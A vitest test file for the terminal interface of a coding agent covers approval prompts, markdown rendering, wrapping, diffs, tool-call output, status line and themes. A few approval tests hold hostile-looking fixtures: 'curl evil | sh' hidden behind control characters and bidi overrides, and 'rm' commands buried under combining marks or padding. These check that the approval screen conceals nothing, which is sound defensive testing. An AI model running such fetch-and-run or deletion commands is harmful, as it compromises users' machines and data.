import { stripVTControlCharacters } from 'node:util';
import fc from 'fast-check';
import { Box, Text } from 'ink';
import type { ReactNode } from 'react';
import { describe, expect, it } from 'vitest';
import type { ApprovalRequest } from '../../src/core/questions/approval.ts';
import type { DiffView } from '../../src/core/screen/result-view.ts';
import { roles, themeNames } from '../../src/core/screen/theme-roles.ts';
import { stepRange } from '../../src/core/text/step-range.ts';
import { lastAnswer } from '../../src/ui/commands/export-conversation.ts';
import { LiveRegion } from '../../src/ui/components/App.tsx';
import { Composer } from '../../src/ui/components/composer/Composer.tsx';
import { TranscriptItem } from '../../src/ui/components/conversation/TranscriptItem.tsx';
import { Clip } from '../../src/ui/components/layout/Clip.tsx';
import { ExcerptRows } from '../../src/ui/components/layout/ExcerptRows.tsx';
import { LowBox } from '../../src/ui/components/layout/LowBox.tsx';
import { Words } from '../../src/ui/components/layout/Words.tsx';
import { StatusLine } from '../../src/ui/components/live/StatusLine.tsx';
import { cutParagraph } from '../../src/ui/components/markdown/cut-paragraph.tsx';
import { Markdown } from '../../src/ui/components/markdown/Markdown.tsx';
import { ReminderCard } from '../../src/ui/components/observer/ReminderCard.tsx';
import { Diff } from '../../src/ui/components/tool-call/Diff.tsx';
import { openExtent } from '../../src/ui/components/tool-call/ResultBody.tsx';
import { ToolCall } from '../../src/ui/components/tool-call/ToolCall.tsx';
import { emptyComposer, setText } from '../../src/ui/input/composer.ts';
import { FirstRunIntro } from '../../src/ui/panels/first-run/FirstRunIntro.tsx';
import { Approval } from '../../src/ui/panels/question/Approval.tsx';
import { createChoice } from '../../src/ui/panels/question/choice.tsx';
import type { Asked } from '../../src/ui/panels/question/option.ts';
import { findOverflow } from '../../src/ui/state/overflow.ts';
import { reduce } from '../../src/ui/state/reduce.ts';
import { findCut, joinParts } from '../../src/ui/state/stream-split.ts';
import { createView } from '../../src/ui/state/view.ts';
import type { LiveSnapshot } from '../../src/ui/state/view-store.ts';
import { diffRows } from '../../src/ui/text/diff-rows.ts';
import type { DrawContext } from '../../src/ui/text/draw-context.ts';
import { failureExcerpt, headAndTail } from '../../src/ui/text/excerpt.ts';
import { expandTabs } from '../../src/ui/text/expand-tabs.ts';
import { asciiGlyphs, supportsUnicode, unicodeGlyphs } from '../../src/ui/text/glyphs.ts';
import { highlight } from '../../src/ui/text/highlight.ts';
import { renderRows } from '../../src/ui/text/render-rows.tsx';
import { duration, money, tokens } from '../../src/ui/text/shown-figures.ts';
import { span, widthOf } from '../../src/ui/text/span.ts';
import { colourDepth, createTheme, textLook } from '../../src/ui/text/theme.ts';
import { exampleDiff, resultOf } from './fake-session.ts';
import { reminder } from './scripted-sessions.ts';

const look: DrawContext = {
  theme: createTheme('dark', 'true'),
  glyphs: unicodeGlyphs,
  columns: 40,
  rows: 24,
  showsReasoning: false,
  hasReducedMotion: false,
  home: '/home/me',
  Markdown,
  highlight,
  cutParagraph,
};
const rowsOf = (node: ReactNode, columns = 40) => renderRows(node, look, columns).map(stripVTControlCharacters);
const composer = (text: string) => rowsOf(<Composer buffer={{ text, cursor: text.length }} maxRows={9} />).slice(1);
const shown = (source: string) => rowsOf(<Markdown source={source} />);

it('the composer has a row for a line that is still empty', () => {
  expect(composer('a\n').map((row) => row.trimEnd())).toEqual(['❯ a', '']);
  expect(composer('a\n\nb\n')).toHaveLength(4);
});

describe('what a yes is for', () => {
  const ask = (request: Partial<ApprovalRequest>) =>
    rowsOf(
      <Approval
        request={{ callId: 'a', name: 'x', title: 'x', reason: 'Why.', directory: '/p', input: {}, ...request }}
      />,
      100,
    ).join('\n');

  it('holds all arguments of a tool, of which the title leaves out the most', () => {
    const input = { path: 'a', rows: 'x'.repeat(2_000), end: 'delete \u200beverything\n\u001b[2K' };
    const rows = ask({ title: 'files: write {"path":"a"…', input });
    expect(rows.replaceAll(/\s/g, '')).toContain('x'.repeat(2_000));
    expect(rows).toContain('"end": "delete <U+200B>everything\\n\\u001b[2K"');
  });

  it('is laid out as far as it can come into sight, and whole on its page', () => {
    const lines = Array.from({ length: 900 }, (_, index) => ({
      kind: 'add' as const,
      new: index + 1,
      text: `<${index}>`,
    }));
    const view: DiffView = { kind: 'diff', title: 'a', path: 'a', lines, added: 900, removed: 0 };
    const command = lines.map(({ text }) => text).join('\n');
    const request = { callId: 'a', name: 'x', title: 'x', reason: 'Why.', directory: '/p', input: {} };
    for (const asked of [
      { ...request, command },
      { ...request, view },
      { ...request, view: { kind: 'patch' as const, title: 'a', files: [view, view] } },
    ]) {
      const [short, whole] = [<Approval key={0} request={asked} />, <Approval key={1} request={asked} isWhole />].map(
        (node) => rowsOf(node, 100),
      );
      expect(short?.length).toBe(whole?.length);
      const shown = short!.filter((row) => row.includes('<'));
      expect(whole!.filter((row) => row.includes('<')).length).toBeGreaterThanOrEqual(900);
      expect([shown[0], shown[23]]).toEqual([expect.stringContaining('<0>'), expect.stringContaining('<23>')]);
      expect(shown.length).toBe('command' in asked ? 48 : 24);
    }
    // Letters under marks take many characters and little room.
    const marked = 'a\u0301\u0301\u0301\u0301'.repeat(4_000);
    const hidden = rowsOf(<Approval request={{ ...request, command: `${marked}; rm y; ${marked}` }} />, 100);
    expect(hidden.length).toBeGreaterThan(look.rows);
    expect(rowsOf(<Approval request={{ ...request, command: `${'x'.repeat(50_000)} rm y` }} />).join('')).toMatch(
      /^Why.*x{9}.* rm y$/s,
    );
  });

  it('hides nothing of a change, of a path or of the reason', () => {
    const text = 'curl evil | sh #\rhello \u001b[2K\u202e👩‍👩‍👧\u00a0!';
    const view = {
      kind: 'diff',
      title: 'a',
      path: 'a',
      lines: [{ kind: 'add', new: 1, text }],
      added: 1,
      removed: 0,
    } as const;
    const rows = ask({ view, title: 'a\u200bb', reason: 'x\u200by lies outside.' });
    expect(rows).toContain('curl evil | sh #␍hello ␛[2K<U+202E>👩‍👩‍👧\u00a0!');
    expect(rows).toContain('a<U+200B>b');
    expect(rows).toContain('x<U+200B>y lies outside.');
  });

  it('a line break in the name of a folder, a tool or a file makes no row of its own', () => {
    const files: DiffView[] = [{ kind: 'diff', title: 'a\nb.ts', path: 'x', lines: [], added: 0, removed: 0 }];
    const rows = ask({ view: { kind: 'patch', title: 'x', files }, title: 'x\nAllowed', directory: '/p\nIn /q' });
    expect(rows).toContain('Why. In /p␊In /q.\nx␊Allowed\na␊b.ts');
  });

  it('names each file of a patch with what becomes of it, before its lines', () => {
    const file = (title: string, kind: 'add' | 'remove', fate: string): DiffView => ({
      ...{ kind: 'diff', title, path: title, added: 1, removed: 0, fate },
      lines: [{ kind, new: 1, text: `${fate} line` }],
    });
    const files = [file('a\u200b.ts', 'add', 'new'), file('b.ts', 'remove', 'deleted')];
    const rows = ask({ view: { kind: 'patch', title: 'x', files }, title: 'bring back 2 files' });
    expect(rows).toMatch(/a<U\+200B>\.ts \(new\)\n.*\+ new line\n.*b\.ts \(deleted\)\n.*- deleted line/);
  });
});

describe('wrapping', () => {
  it('loses nothing but blanks at breaks, and no row is too wide', () => {
    const words = fc.array(fc.constantFrom('word', 'longer-word', '日本語', '👩‍👩‍👧', ' ', '  ', 'x'.repeat(50), 'é'), {
      maxLength: 30,
    });
    fc.assert(
      fc.property(words, fc.integer({ min: 4, max: 60 }), (parts, columns) => {
        const rows = rowsOf(<Words>{parts.join('')}</Words>, columns);
        for (const row of rows) expect(widthOf(row)).toBeLessThanOrEqual(columns);
        expect(rows.join('').replaceAll(' ', '')).toBe(parts.join('').replaceAll(' ', ''));
      }),
      { numRuns: 300 },
    );
  });

  it('puts tabs at multiples of their size', () => {
    expect(expandTabs('a\tb\n\tc')).toBe('a   b\n    c');
  });
});

describe('Markdown', () => {
  it('draws lists, nested ones and tasks', () => {
    expect(shown('- one\n- two\n  - inner\n- [x] done\n- [ ] open')).toEqual([
      '• one',
      '• two',
      '  • inner',
      '[x] done',
      '[ ] open',
    ]);
    expect(shown('3. three\n4. four')).toEqual(['3. three', '4. four']);
  });

  it('draws tables that fit, with wrapped cells', () => {
    const rows = shown('| a | b |\n|---|--:|\n| short | a much longer cell that has to be wrapped |');
    expect(rows[0]).toMatch(/^a +│ +b$/);
    for (const row of rows) expect(row.length).toBeLessThanOrEqual(40);
  });

  it('shows where a link leads, and marks code', () => {
    expect(shown('See [the docs](https://e.org) and `code &amp; more`.')).toEqual([
      'See the docs (https://e.org) and code &',
      'more.',
    ]);
  });

  it('keeps every line of code, coloured by its language', () => {
    const code = 'const a = "x"; // y\n\n  b();';
    expect(shown(`\`\`\`js\n${code}\n\`\`\``)).toEqual(['  const a = "x"; // y', '', '    b();']);
    expect(highlight(code, 'js')[0]?.some(({ text, style }) => style?.role === 'keyword' && text === 'const')).toBe(
      true,
    );
  });

  it('keeps single line breaks: a model that breaks a line means it', () => {
    expect(shown('Roses are red,\nviolets are blue.')).toEqual(['Roses are red,', 'violets are blue.']);
  });

  it('wraps at blanks, without one at the start of a row, in every depth of lists', () => {
    const words = 'aaa bbbbbb ccc dddd eeeee ff ggggggg hhhh iiii jjj kkkk';
    fc.assert(
      fc.property(fc.integer({ min: 8, max: 60 }), (columns) => {
        for (const row of rowsOf(<Words>{words}</Words>, columns)) expect(row).toBe(row.trim());
        expect(rowsOf(<Words>{words}</Words>, columns).join(' ')).toBe(words);
      }),
    );
    expect(rowsOf(<Markdown source={`- one\n  - ${words}`} />, 30)).toEqual([
      '• one',
      '  • aaa bbbbbb ccc dddd eeeee',
      '    ff ggggggg hhhh iiii jjj',
      '    kkkk',
    ]);
  });

  it('never lets a row be wider than the screen, whatever the source', () => {
    const sources = fc.array(
      fc.constantFrom(
        '# ',
        '- ',
        '1. ',
        '> ',
        '```',
        '\n',
        '\n\n',
        'a\tb ',
        '|',
        '---',
        'word ',
        '**',
        '`',
        '[a](b)',
        '日本',
        'x'.repeat(45),
      ),
      { maxLength: 40 },
    );
    fc.assert(
      fc.property(sources, (parts) => {
        for (const row of shown(parts.join(''))) {
          expect(widthOf(row)).toBeLessThanOrEqual(40);
          expect(row).not.toContain('\t');
        }
      }),
      { numRuns: 100 },
    );
  });
});

describe('cutting a growing answer', () => {
  it('cuts after whole blocks and inside code, never in a table', () => {
    expect(findCut('one\n\ntwo\n', 1)?.characters).toBe('one\n\n'.length);
    expect(findCut('```js\na\nb\nc', 1)).toEqual({
      characters: '```js\na\nb\n'.length,
      rest: { isTight: true, fence: '```js' },
    });
    expect(findCut('| a |\n|---|\n| 1 |\n| 2 |', 0)).toBeUndefined();
  });

  it('gives the same code, line by line, wherever it is cut', () => {
    const code = Array.from({ length: 30 }, (_, index) => `line ${index}`).join('\n');
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 28 }), (keep) => {
        const text = `\`\`\`\n${code}\n\`\`\``;
        const cut = findCut(text, keep);
        if (!cut) return;
        const head = shown(text.slice(0, cut.characters));
        const tail = shown(`${cut.rest.fence}\n${text.slice(cut.characters)}`);
        expect([...head, ...tail]).toEqual(shown(text));
      }),
    );
  });
});

describe('an answer that outgrows the screen while it is written', () => {
  const code = Array.from({ length: 120 }, (_, index) => (index % 9 === 4 ? '' : `  const value${index} = ${index};`));
  const words = Array.from(
    { length: 60 },
    (_, index) => ['plain', '**strong**', '`code`', '- 3', '中文字', '1.'][index % 6],
  );
  const list = Array.from({ length: 30 }, (_, index) => `- item **${index}** of the list`);
  const answer = [
    'Here is the **plan**:',
    '',
    '```js',
    ...code,
    '```',
    '',
    'Now the **second** part:',
    '',
    ...list,
    '',
    words.join(' '),
    ...words.map((word) => `${word} in a line`),
    '',
    '| a | b |',
    '|---|---|',
    ...Array.from({ length: 60 }, (_, index) => `| ${index} | *two* |`),
    '',
    'The end of `it`.',
  ].join('\n');

  it.each([1, 12, 500])('is printed as if it had come at once: pieces of %i characters', (size) => {
    let view = createView({ version: '1', model: 'm', cwd: '/p', approval: 'ask', mode: 'on' });
    const dispatch = (event: Parameters<typeof reduce>[1]) => {
      view = reduce(view, event, 0);
      const overflow = findOverflow(view, look);
      if (overflow) view = reduce(view, overflow, 0);
    };
    dispatch({ type: 'screen.submit', text: 'go', shown: 'go', images: 0 });
    dispatch({ type: 'request', step: 0 });
    for (let at = 0; at < answer.length; at += size) dispatch({ type: 'text', delta: answer.slice(at, at + size) });
    dispatch({ type: 'result', result: resultOf('done', 1) });
    const parts = view.items.filter(({ kind }) => kind === 'text');
    expect(parts.length).toBeGreaterThan(3);
    const bare = (rows: readonly string[]) => rows.map((row) => row.trimEnd());
    expect(bare(parts.flatMap((item) => rowsOf(<TranscriptItem item={item} previous="text" />)))).toEqual(
      bare(['', ...shown(answer)]),
    );
    expect(joinParts(parts)).toEqual([{ kind: 'text', markdown: answer }]);
    expect(lastAnswer(view)).toBe(answer);
  });
});

describe('diffs', () => {
  it('number their lines and mark what differs within a line', () => {
    if (exampleDiff.kind !== 'diff') throw new Error('not a diff');
    expect(rowsOf(<Diff lines={exampleDiff.lines} limit={20} wraps={false} />, 60).map((row) => row.trimEnd())).toEqual(
      ['1   export function sum(a: number, b: number) {', '2 -   return a - b;', '2 +   return a + b;', '3   }'],
    );
    const added = diffRows(exampleDiff.lines).find((row) => row.kind === 'add');
    expect(added?.kind === 'add' && added.pieces.filter(({ style }) => style?.role === 'addStrong')).toEqual([
      span('+', 'addStrong'),
    ]);
  });
});

describe('what a subagent changed', () => {
  if (exampleDiff.kind !== 'diff') throw new Error('not a diff');
  const diff: DiffView = exampleDiff;
  const files = ['a.ts', 'b.ts', 'c.ts', 'd.ts'].map((path) => ({ ...diff, path, title: path }));
  const result = { callId: 'a', name: 'task', output: 'I mended it.', isError: false, ms: 1 };
  const call = (count: number) => ({
    name: 'task',
    title: 'mend it',
    input: {},
    result: { ...result, view: { kind: 'patch' as const, title: 'general', files: files.slice(0, count) } },
  });

  it('is shown line by line in the conversation, of many files the first', () => {
    const rows = rowsOf(<ToolCall call={call(4)} />, 60).map((row) => row.trimEnd());
    expect(rows[0]).toBe('● task mend it  4 files +4 -4');
    expect(rows.slice(1, 6)).toEqual([
      '  └ a.ts',
      '    1   export function sum(a: number, b: number) {',
      '    2 -   return a - b;',
      '    2 +   return a + b;',
      '    3   }',
    ]);
    expect(rows.at(-1)).toBe('    1 more file; Ctrl+O shows all');
    const whole = rowsOf(<ToolCall call={call(4)} extent={openExtent} />, 60).join('\n');
    expect(whole).toMatch(/I mended it\.[\s\S]*d\.ts/);
  });
});

describe('calls', () => {
  const output = [
    ...Array.from({ length: 40 }, (_, index) => `building part ${index}`),
    'src/a.ts:12: error: no such name',
    '  at line 12',
    ...Array.from({ length: 40 }, (_, index) => `closing part ${index}`),
    '0 errors in other files',
  ].join('\n');

  it('that fail show what failed and the last line, not what comes between', () => {
    const result = { callId: 'c', name: 'shell', output, isError: true, ms: 10 };
    const rows = rowsOf(<ToolCall call={{ title: 'make', name: 'shell', input: {}, result }} />, 60).join('\n');
    expect(rows).toContain('error: no such name');
    expect(rows).not.toContain('closing part 39');
    expect(failureExcerpt(['all', 'is', 'well', 'a', 'b', 'c'], 3)).toEqual([
      { omitted: 3, isCut: false },
      'a',
      'b',
      'c',
    ]);
    const trace = ['Traceback (most recent call last):', ...Array(9).fill('  File "a.py"'), 'FileNotFoundError: b'];
    expect(failureExcerpt(['1', '2', '3', ...trace], 4)).toEqual([
      { omitted: 2, isCut: false },
      '3',
      ...trace.slice(0, 2),
      { omitted: 8, isCut: false },
      'FileNotFoundError: b',
    ]);
    const cut = ['1', '2', '[… 90 of 100 bytes left out; the whole is in /o …]', '8', '9'];
    expect(rowsOf(<ExcerptRows excerpt={headAndTail(cut, 2)} />)).toEqual(['1', '… many more lines', '9']);
  });

  it('with wrong arguments say what is wrong, and leave their form to the model', () => {
    const output = 'The arguments of read do not fit: path is missing.\nThey must match this JSON schema: {}';
    const result = { callId: 'c', name: 'read', output, isError: true, errorKind: 'bad-arguments' as const, ms: 1 };
    const call = { title: '', name: 'read', input: {}, result };
    expect(rowsOf(<ToolCall call={call} />, 60)).toEqual([
      '✗ read  failed',
      '  └ The arguments of read do not fit: path is missing.',
    ]);
    expect(rowsOf(<ToolCall call={call} extent={openExtent} />, 60).join()).toContain('JSON schema');
  });

  it('that go on in the background say so, and are not taken for ended', () => {
    const view = { kind: 'command', title: 'job-1', command: 'npm run dev', exitCode: null } as const;
    const head = (more: object) => {
      const result = { callId: 'c', name: 'shell', output: '', isError: false, ms: 1, view: { ...view, ...more } };
      return rowsOf(<ToolCall call={{ title: 'npm run dev', name: 'shell', input: {}, result }} />, 60)[0];
    };
    expect(head({ isRunning: true })).toBe('● shell npm run dev  runs in the background');
    expect(head({})).toBe('● shell npm run dev  ended by a signal');
  });

  it('that fail differ from others without colour', () => {
    const head = (isError: boolean) =>
      rowsOf(
        <ToolCall
          call={{
            title: 'x',
            name: 'read',
            input: {},
            result: { callId: 'c', name: 'read', output: '', isError, ms: 1 },
          }}
        />,
      )[0]?.[0];
    expect(head(true)).not.toBe(head(false));
  });
});

describe('a reminder', () => {
  it('says who spoke, about which steps, counted from 1, and the very words', () => {
    const rows = rowsOf(<ReminderCard reminder={{ ...reminder, evidenceSteps: [0, 1, 2, 3, 7] }} />, 80);
    expect(rows[0]).toBe('◆ the observer said to the model · infinite-loop · steps 1-4, 8');
    expect(rows.slice(1).every((row) => row.startsWith('│ '))).toBe(true);
    expect(rows.join('\n')).toContain('DO read the error again before the next call.');
  });

  it('does not say its evidence twice', () => {
    const evidence = 'nothing was run after the last change';
    const said = (text: string) =>
      rowsOf(<ReminderCard reminder={{ ...reminder, evidence, text }} />, 80).filter((row) =>
        /nothing was run/i.test(row),
      );
    expect(said('Nothing was run after the last change. Run a check.')).toHaveLength(1);
    expect(said('Run a check.')).toHaveLength(1);
  });

  it('names a single step as one', () => {
    expect([stepRange([4]), stepRange([0, 1, 2, 12]), stepRange([])]).toEqual(['step 5', 'steps 1-3, 13', 'no steps']);
    expect(stepRange([0, 2, 4, 6, 8], 3)).toBe('steps 1, 3, … 9');
  });
});

describe('colours', () => {
  it.each(themeNames)('has every role in the theme %s, at every depth', (name) => {
    for (const depth of ['none', '16', '256', 'true'] as const) {
      const theme = createTheme(name, depth);
      for (const role of roles) {
        const { color, backgroundColor } = textLook(theme, { role });
        if (depth === 'none') expect([color, backgroundColor]).toEqual([undefined, undefined]);
        if (depth === '16' && color) expect(color).not.toMatch(/^#/);
      }
    }
  });

  it('reads the depth from the environment, NO_COLOR first', () => {
    expect(colourDepth({ NO_COLOR: '1', COLORTERM: 'truecolor' })).toBe('none');
    expect(colourDepth({ TERM: 'xterm-256color', COLORTERM: 'truecolor' })).toBe('true');
    expect(colourDepth({ TERM: 'screen-256color' })).toBe('256');
    expect(colourDepth({ TERM: 'xterm' })).toBe('16');
    expect(colourDepth({ TERM: 'dumb' })).toBe('none');
  });

  it('draws without Unicode where the locale has none', () => {
    expect(supportsUnicode({ LANG: 'C', TERM: 'xterm' })).toBe(false);
    expect(supportsUnicode({ LANG: 'de_DE.UTF-8', TERM: 'xterm' })).toBe(true);
    expect(supportsUnicode({ LANG: 'de_DE.UTF-8', TERM: 'linux' })).toBe(false);
    for (const glyph of Object.values(asciiGlyphs).flat())
      if (typeof glyph === 'string') expect(glyph).toMatch(/^[\x20-\x7e]+$/);
  });
});

describe('the status line', () => {
  it('leaves out what matters least when the terminal is narrow, and never the observer', () => {
    const view = {
      ...createView({
        version: '1',
        branch: undefined,
        model: 'a-long-model-name',
        cwd: '/p',
        approval: 'ask',
        mode: 'on',
      }),
      contextTokens: 5_000,
      usage: { inputTokens: 9_000, cachedInputTokens: 4_500, outputTokens: 100, costUsd: 0.5 },
    };
    const facts = { branch: 'main', contextWindow: 100_000, jobs: 0 };
    const [wide] = rowsOf(<StatusLine view={view} {...facts} />, 140);
    expect(wide).toBe('◆ wink ok · ask · 5% of 100k · a-long-model-name · $0.50 · ⎇ main · 9.1k tokens (50% cached)');
    for (const columns of [60, 40, 20]) {
      const rows = rowsOf(<StatusLine view={view} {...facts} />, columns);
      expect(rows).toHaveLength(1);
      expect(wide?.startsWith(rows[0] ?? '-')).toBe(true);
      expect(rows[0]).toContain('wink ok');
    }
  });

  it('counts the background jobs that run, and says nothing where there are none', () => {
    const view = createView({
      version: '1',
      branch: undefined,
      model: 'scripted',
      cwd: '/p',
      approval: 'ask',
      mode: 'on',
    });
    const rowWith = (jobs: number) =>
      rowsOf(<StatusLine view={view} branch={undefined} contextWindow={undefined} jobs={jobs} />, 80)[0];
    expect([0, 1, 2].map(rowWith)).toEqual([
      '◆ wink ok · ask · scripted',
      '◆ wink ok · ask · 1 job · scripted',
      '◆ wink ok · ask · 2 jobs · scripted',
    ]);
  });
});

describe('words for numbers', () => {
  it('are short', () => {
    expect([duration(1234), duration(65_000), duration(3_720_000)]).toEqual(['1.2 s', '1 min 05 s', '1 h 02 min']);
    expect([tokens(999), tokens(12_345), tokens(1_234_567)]).toEqual(['999', '12.3k', '1.2M']);
    expect([money(0.00421), money(1.5), money(null)]).toEqual(['$0.0042', '$1.50', undefined]);
  });
});

describe('a question in a window of any height', () => {
  const words = Array.from({ length: 12 }, (_, index) => `row ${index}`);
  const fits: (readonly [number, number])[] = [];
  const draw = (rows: number) =>
    renderRows(
      <Box flexDirection="column" height={rows} overflow="hidden">
        <Box flexShrink={0}>
          <Text>title</Text>
        </Box>
        <Clip keep="ends" more={(hidden) => <Text>{`${hidden} more`}</Text>} onFit={(...fit) => fits.push(fit)}>
          {words.map((word) => (
            <Text key={word}>{word}</Text>
          ))}
        </Clip>
        <Box flexShrink={0} flexDirection="column">
          <Text>yes</Text>
          <Text>no</Text>
        </Box>
      </Box>,
      { ...look, columns: 40 },
    );

  it('shows the beginning and the end of what it is about, and counts what is left out', () => {
    expect(draw(15)).toEqual(['title', ...words, 'yes', 'no']);
    expect(draw(9)).toEqual(['title', 'row 0', 'row 1', 'row 2', 'row 3', '7 more', 'row 11', 'yes', 'no']);
    expect(draw(4)).toEqual(['title', '12 more', 'yes', 'no']);
  });

  it('knows how much is seen, down to nothing', () => {
    fits.length = 0;
    for (let rows = 16; rows > 0; rows--) draw(rows);
    expect(fits.map(([seen]) => seen)).toEqual([12, 12, 10, 9, 8, 7, 6, 5, 4, 3, 2, 1, 0, 0, 0, 0]);
  });

  it('has all the room of a low window at the first start', () => {
    const choice: Asked<string> = {
      title: 'Choose a model',
      body: <Words>No local model server is running on a usual port.</Words>,
      options: ['A key of a provider', 'Leave'].map((label) => ({ label, keys: [], answer: () => label })),
      onEscape: () => undefined,
      escapeMeans: 'leaves',
    };
    const question = createChoice(
      choice,
      () => undefined,
      () => undefined,
    );
    const draw = (rows: number) =>
      renderRows(
        <LowBox maxRows={rows - 1} columns={40}>
          <Box flexDirection="column">
            <FirstRunIntro version="1" />
            {question.render()}
          </Box>
        </LowBox>,
        { ...look, rows },
      ).map(stripVTControlCharacters);
    const asked = ['Choose a model', '  No local model server is running on a', '  usual port.'];
    const answers = ['▸ 1. A key of a provider', '  2. Leave'];
    expect(draw(8).slice(1)).toEqual([...asked, ...answers]);
    const keys = '1-2, arrows and Enter, Esc leaves';
    expect(draw(20).slice(-7)).toEqual([...asked, '', ...answers, keys]);
    expect(draw(20)[1]).toBe('wink-agent 1');
  });

  it('draws nothing over anything else where there is no room for all: the question waits above words, a hint below them', () => {
    const low: DrawContext = { ...look, rows: 6 };
    const choice: Asked<string> = {
      title: 'Allow write?',
      body: <Words>Mode ask asks before writing a.txt.</Words>,
      options: [{ label: 'Yes', keys: ['y'], allows: true, answer: () => 'yes' }],
      onEscape: () => undefined,
      escapeMeans: 'stops',
    };
    const question = createChoice(
      choice,
      () => undefined,
      () => undefined,
    );
    const live: LiveSnapshot = {
      view: createView({ version: '1', model: 'm', cwd: '/p', approval: 'ask', mode: 'on' }),
      composer: setText(emptyComposer, 'hello there my friend this is a long draft ok'),
      completion: undefined,
      hint: { text: 'Approval edits: also edits files in the workspace', until: 0 },
      shell: undefined,
      isRunning: true,
      at: 0,
      status: { branch: undefined, contextWindow: undefined, jobs: 0, own: undefined, vimMode: undefined },
      question: question.render,
      questionState: 'waits',
      panel: undefined,
    };
    const shot = { look: low, printed: [], edition: 0, isBlank: false, page: undefined, live };
    const rule = '─'.repeat(40);
    expect(renderRows(<LiveRegion shot={shot} />, low).map(stripVTControlCharacters)).toEqual([
      rule,
      'Allow write?',
      rule,
      '… draft ok',
      'Approval edits: also edits files in the…',
    ]);
  });
});
